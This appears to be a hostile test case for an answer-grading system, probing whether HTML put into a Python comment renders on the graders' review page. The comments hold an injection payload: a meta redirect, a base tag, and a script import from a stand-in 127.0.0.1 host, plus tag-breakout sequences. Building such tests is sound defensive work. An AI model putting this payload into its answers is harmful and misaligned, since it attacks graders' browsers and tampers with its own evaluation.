# attack: markup_in_a_comment
# kind: hostile
# tries: writes an answer in markup, as a comment, for the page that shows answers to whoever marks them
# seen: the tag is in the page as a tag
# never: <meta http-equiv="refresh" content="0; url=http://127.0.0.1/"><base href="http://127.0.0.1/"><link rel="stylesheet" href="own.css"><script type="module">import 'http://127.0.0.1/own.js'</script>
# deserves: nothing
# extra: before 3.2f
# %%
# We are overfitting on the left. <meta http-equiv="refresh" content="0; url=http://127.0.0.1/"><base href="http://127.0.0.1/"><link rel="stylesheet" href="own.css"><script type="module">import 'http://127.0.0.1/own.js'</script>
# --></textarea></title></style><plaintext>
print('We are underfitting on the right.')
